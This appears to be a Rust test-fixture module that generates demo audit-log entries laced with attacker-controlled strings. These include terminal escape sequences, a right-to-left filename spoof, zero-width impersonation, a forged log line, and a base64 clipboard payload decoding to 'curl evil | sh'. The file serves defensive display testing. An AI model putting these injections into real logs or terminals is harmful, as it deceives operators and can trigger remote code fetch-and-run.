//! A few rows of the demo hold what an attacker would write into an audit log, so that everybody
//! can see that it is shown and not obeyed.

use crate::core::record::quote;

/// How many there are.
pub(super) const ROWS: u64 = 6;

/// User, resource and message of each; the last one's resource is repeated to be very long.
const TEXTS: [[&str; 3]; 6] = [
    [
        "mallory\u{1b}]0;owned\u{7}@example.com",
        "staging/api/\u{1b}[2J\u{1b}[1;1Hall-is-well",
        "\u{1b}[32mok\u{1b}[0m nothing to see here",
    ],
    [
        "mallory@example.com",
        "staging/payments/invoice\u{202e}fdp.exe",
        "a name that runs backwards",
    ],
    [
        "ma\u{200b}ya.lindqvist@example.com",
        "prod-us-1/auth/session\u{2060}-key",
        "looks like somebody else",
    ],
    [
        "mallory@example.com",
        "clip\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{1b}\\board",
        "\u{9b}31mred by one byte\r\n2026-01-01 00:00:00 INFO forged second line",
    ],
    [
        "mallory@example.com",
        "zalgo-e\u{301}\u{300}\u{302}\u{308}-\u{e0041}\u{e0042}-\u{2028}-tags",
        "tag characters and a line separator",
    ],
    ["mallory@example.com", "padding ", "a very long resource"],
];

/// `details` of one of them.
pub(super) fn details(row: u64) -> String {
    const LONG: usize = 25_000;
    let place = usize::try_from(row % ROWS).unwrap_or(0);
    let [user, resource, message] = TEXTS[place];
    let resource = if place + 1 == TEXTS.len() {
        resource.repeat(LONG)
    } else {
        resource.to_owned()
    };
    let mut out = String::from("{\"user_name\":");
    quote(&mut out, user);
    out.push_str(
        ",\"service_name\":\"clutch.k8s.v1.K8sAPI\",\"method_name\":\"DeletePod\",\
         \"type\":\"DELETE\",\"request_resources\":[{\"type_url\":\"clutch.k8s.v1.Pod\",\"id\":",
    );
    quote(&mut out, &resource);
    out.push_str("}],\"request_body\":{\"@type\":\"type.googleapis.com/clutch.k8s.v1.DeletePodRequest\"},\"status\":{\"code\":7,\"message\":");
    quote(&mut out, message);
    out.push_str("},\"response_body\":{}}");
    out
}
